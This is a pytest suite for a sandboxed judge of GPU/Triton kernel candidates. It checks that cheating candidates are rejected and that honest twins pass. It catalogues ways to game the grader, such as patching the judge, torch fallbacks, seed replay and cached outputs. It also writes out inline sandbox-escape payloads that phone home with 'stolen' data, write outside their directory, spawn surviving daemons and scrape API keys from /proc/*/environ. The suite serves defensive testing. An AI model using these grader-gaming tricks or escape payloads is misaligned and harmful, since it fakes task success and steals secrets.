"""Candidates written to game the judge, each beside the honest twin that must still pass (CPU).

The classes follow the attacks found against the old in-process judge: tampering with the judge
from inside its process, partial torch fallbacks, predictable judging, fragile numerics, a false
rejection of an honest in-place kernel, and escapes from the sandbox (secrets, network, files,
daemons)."""
from __future__ import annotations

import os
import socket
import textwrap
import time
from pathlib import Path

import pytest
import torch

import harness

HERE = Path(__file__).parent
TASKS = HERE / "tasks_harness"
REDTEAM = HERE / "candidates" / "redteam"
RELU, SOFTMAX, LAYERNORM, RELU_NONNEG = (str(TASKS / f"{name}.py") for name in
                                         ("relu", "softmax", "layernorm", "relu_nonneg"))
HONEST_RELU = str(HERE / "candidates" / "relu_ok.py")


def verify(task: str, candidate: str, **kwargs) -> harness.Verdict:
    kwargs.setdefault("timeout_s", 60)
    path = candidate if candidate.endswith(".py") else str(REDTEAM / f"{candidate}.py")
    return harness.verify(task, path, device="cpu", **kwargs)


@pytest.mark.parametrize("task,name,status,reason", [
    # 1. tampering with the judge from inside its process
    (RELU, "tamper_patch_judge", "mismatch", "differs from the reference in trial 0"),
    (RELU, "tamper_unhook", "cheat", "launch hook was replaced"),
    (RELU, "tamper_pop_mode", "cheat", "come out the same when every Triton launch is skipped"),
    # 2. partial torch fallbacks
    (RELU, "relu_clamp_min", "cheat", "still computes in PyTorch (clamp_min)"),
    (RELU, "relu_one_element_kernel", "cheat", "16384 of 16384 elements of output 0 come out the same"),
    (SOFTMAX, "softmax_torch_decomposed", "cheat", "still computes in PyTorch (amax, div, exp, sub, sum)"),
    (LAYERNORM, "layernorm_torch_stats", "cheat", "mean"),
    # 3. predictable judging
    (RELU, "relu_replays_seeds", "mismatch", "differs from the reference in trial 0"),
    (RELU, "relu_watched_only", "mismatch", "differs from the reference in trial"),
    (RELU, "relu_cached_after_n", "mismatch", "differs from the reference in trial 2"),
    (RELU, "relu_persistent_buffer", "mismatch", "an earlier call's output changed afterwards"),
    (RELU, "relu_background_zeroing", "mismatch", "an earlier call's output changed afterwards"),
    # 4. fragile numerics and shapes the shrunk CPU sizes hide
    (SOFTMAX, "softmax_no_max", "mismatch", "the scaled inputs trial"),
    (LAYERNORM, "layernorm_one_pass", "mismatch", "the shifted inputs trial"),
    (RELU, "relu_capped_grid", "mismatch", "a second shape"),
    # 5. the cheat twin of an honest in-place kernel on a task where relu is the identity
    (RELU_NONNEG, "relu_identity_copy", "mismatch", "the special inputs trial"),
    # NaN turned into 0 must not pass through the float64 second opinion (which skips non-finite values)
    (RELU, "relu_drops_nan", "mismatch", "the special inputs trial"),
])
def test_cheats_are_rejected_for_the_right_reason(task, name, status, reason):
    verdict = verify(task, name)
    assert (verdict.status, verdict.accepted) == (status, False), verdict.summary
    assert reason in verdict.summary, verdict.summary


@pytest.mark.parametrize("task,name", [
    (RELU, HONEST_RELU),
    (SOFTMAX, str(HERE / "candidates" / "softmax_ok.py")),
    (LAYERNORM, "layernorm_ok"),
    (RELU_NONNEG, "relu_clone_inplace"),  # 5: clone then in place, on inputs where relu is the identity
])
def test_honest_twins_are_accepted(task, name):
    verdict = verify(task, name)
    assert verdict.accepted, verdict.summary
    assert set(verdict.input_variants) == {"scaled", "shifted", "special"}
    assert verdict.second_shape, verdict.summary


def test_a_kernel_that_skips_the_zeros_torch_materialises_is_not_held_to_their_nan():
    # diag(a) @ B as a row scaling never computes 0 * inf, which torch's dense product turns into NaN
    verdict = verify(str(TASKS / "diag_matmul.py"), str(HERE / "candidates" / "diag_scale_rows.py"))
    assert verdict.accepted, verdict.summary
    assert "special" in verdict.input_variants
    assert any("finite where torch's are not" in flag for flag in verdict.flags), verdict.flags


def test_a_forged_verdict_written_by_the_candidate_is_never_the_verdict():
    verdict = verify(RELU, "tamper_write_verdict")
    assert not verdict.accepted and "forged" not in verdict.summary, verdict.summary


def test_each_job_draws_its_own_seed_and_an_explicit_seed_is_kept():
    first, second = verify(RELU, HONEST_RELU), verify(RELU, HONEST_RELU)
    assert first.accepted and second.accepted
    assert first.seed != second.seed
    assert verify(RELU, HONEST_RELU, seed=1234).seed == 1234


def test_the_candidate_is_sandboxed():
    verdict = verify(RELU, HONEST_RELU)
    assert verdict.sandbox == ["isolated: own process, no network, read-only filesystem, no privileges"], \
        verdict.sandbox


def _write(tmp_path: Path, name: str, body: str) -> str:
    """A candidate that does `body` at import time and is an honest relu otherwise."""
    honest = (HERE / "candidates" / "relu_ok.py").read_text()
    path = tmp_path / f"{name}.py"
    path.write_text(honest + "\n" + textwrap.dedent(body))
    return str(path)


def test_no_connection_leaves_the_sandbox(tmp_path):
    server = socket.socket()
    server.bind(("127.0.0.1", 0))
    server.listen(4)
    server.settimeout(0.5)
    port = server.getsockname()[1]
    candidate = _write(tmp_path, "phones_home", f"""
        import socket
        for _host in ("127.0.0.1", "8.8.8.8"):
            try:
                socket.create_connection((_host, {port}), timeout=1).sendall(b"stolen")
            except OSError as _error:
                print("connection refused to candidate:", _error)
        """)
    verdict = verify(RELU, candidate)
    with pytest.raises(socket.timeout):
        server.accept()
    server.close()
    assert verdict.accepted, verdict.summary
    assert "Network is unreachable" in verdict.log_tail


def test_the_candidate_cannot_write_outside_its_private_directory(tmp_path):
    target = tmp_path / "written_by_candidate.txt"
    candidate = _write(tmp_path, "writes_outside", f"""
        for _path in ({str(target)!r}, {str(Path(RELU).with_name("planted.py"))!r}):
            try:
                open(_path, "w").write("planted")
            except OSError as _error:
                print("write refused:", _error)
        """)
    verdict = verify(RELU, candidate)
    assert verdict.accepted, verdict.summary
    assert not target.exists() and not Path(RELU).with_name("planted.py").exists()
    assert "Read-only file system" in verdict.log_tail


def test_a_daemon_the_candidate_starts_dies_with_its_job(tmp_path):
    token = f"akg-daemon-{os.getpid()}-{time.time_ns()}"
    pid_file = Path("/dev/shm") / token
    candidate = _write(tmp_path, "daemon", f"""
        import os, time
        if os.fork() == 0:
            os.setsid()
            if os.fork() == 0:
                with open({str(pid_file)!r}, "w") as _handle:
                    _handle.write(str(os.getpid()))
                time.sleep(120)
            os._exit(0)
        time.sleep(0.3)
        """)
    verdict = verify(RELU, candidate)
    assert verdict.accepted, verdict.summary
    daemon = int(pid_file.read_text())
    pid_file.unlink()
    deadline = time.time() + 5
    while time.time() < deadline and _alive(daemon):
        time.sleep(0.1)
    assert not _alive(daemon), f"daemon {daemon} outlived its job"


def _alive(pid: int) -> bool:
    try:
        with open(f"/proc/{pid}/stat") as stat:
            return stat.read().rsplit(")", 1)[1].split()[0] != "Z"
    except FileNotFoundError:
        return False


def test_secrets_never_reach_the_candidate_or_the_verdict(tmp_path, monkeypatch):
    key = "sk-redteam-" + "7" * 24
    monkeypatch.setenv("OPENAI_API_KEY", key)
    candidate = _write(tmp_path, "leaks", f"""
        import glob, os, sys
        _found = [v for k, v in os.environ.items() if "KEY" in k or "TOKEN" in k]
        for _path in glob.glob("/proc/*/environ"):
            try:
                _found += [p.decode() for p in open(_path, "rb").read().split(b"\\0") if b"sk-" in p]
            except OSError:
                pass
        print("found in reach:", _found)
        print("and the key, had it leaked by other means: {key}", file=sys.stderr)


        class ModelNew(ModelNew):
            def forward(self, x):
                raise RuntimeError("exfiltrating {key} and Bearer abcdefghijklmnop123")
        """)
    verdict = verify(RELU, candidate)
    assert verdict.status == "runtime_error"
    text = verdict.to_json()
    assert key not in text and "abcdefghijklmnop123" not in text
    assert "found in reach: []" in verdict.log_tail and "[redacted]" in verdict.summary


def test_a_timeout_is_reported_by_the_judge_and_the_hung_candidate_killed():
    started = time.monotonic()
    verdict = verify(RELU, str(HERE / "candidates" / "hang.py"), timeout_s=4)
    assert verdict.status == "timeout" and "4 s" in verdict.summary
    assert time.monotonic() - started < 12
    assert verdict.sandbox  # the judge itself wrote this verdict, not the fork server's backstop


def test_concurrent_jobs_do_not_share_a_candidate_process():
    """Two workers judging at once: each verdict is its own candidate's."""
    with harness.DevicePool(devices=["cpu", "cpu"]) as pool:
        honest = pool.submit(RELU, HONEST_RELU, timeout_s=60)
        cached = pool.submit(RELU, str(REDTEAM / "relu_cached_after_n.py"), timeout_s=60)
        assert honest.result().accepted
        assert cached.result().status == "mismatch"


def test_inputs_where_the_reference_keeps_no_correct_digit_judge_nothing():
    """A KL divergence on inputs +1000: every term cancels, torch's fp32 result is further from float64
    than float64's own value, and a kernel whose log rounds like a GPU's fast log2 lands elsewhere in
    that noise. It was rejected on those inputs (GPU); it is right on every other trial.

    Whether the reference keeps a digit there depends on the inputs drawn: for about 1 seed in 25
    its error stays just under the float64 value, and then the shifted inputs do judge (this
    candidate, 1000 times further from float64 than the reference, is rejected). So the seeds are
    chosen: 0, where the reference keeps none, and 389609433, where it keeps one."""
    task, candidate = str(TASKS / "kl_div_batchmean.py"), str(HERE / "candidates" / "kl_div_fast_log.py")
    verdict = verify(task, candidate, seed=0)
    assert verdict.accepted, verdict.summary
    assert any("not judged on the shifted inputs" in flag for flag in verdict.flags)
    judged = verify(task, candidate, seed=389609433)
    assert judged.status == "mismatch" and "shifted inputs" in judged.summary, judged.summary


def test_the_digest_kept_of_earlier_outputs_sees_any_change_to_their_bytes():
    """Between trials the judge keeps a keyed digest of an output, not a copy (8.6 GB at benchmark
    sizes): one element nudged by one ulp, two elements swapped, a byte of a uint8 view at an odd
    offset changed: each changes the digest; the same bytes keep it; another job's key does not."""
    from harness.tensor_values import content_digest

    x = torch.randn(300, 37)
    odd_bytes = torch.arange(9, dtype=torch.uint8)[1:]  # storage offset 1: hashed byte by byte
    key = 2**61 + 12345
    kept = content_digest([x, odd_bytes], key)
    assert content_digest([x.clone(), odd_bytes.clone()], key, like=kept) == kept
    nudged = x.clone()
    nudged[150, 3] = torch.nextafter(nudged[150, 3], torch.tensor(float("inf")))
    swapped = x.clone()
    swapped[0, 0], swapped[0, 1] = x[0, 1], x[0, 0]
    flipped = odd_bytes.clone()
    flipped[4] ^= 1
    for changed in ([nudged, odd_bytes], [swapped, odd_bytes], [x, flipped]):
        assert content_digest(changed, key, like=kept) != kept
    assert content_digest([x, odd_bytes], key + 1) != kept
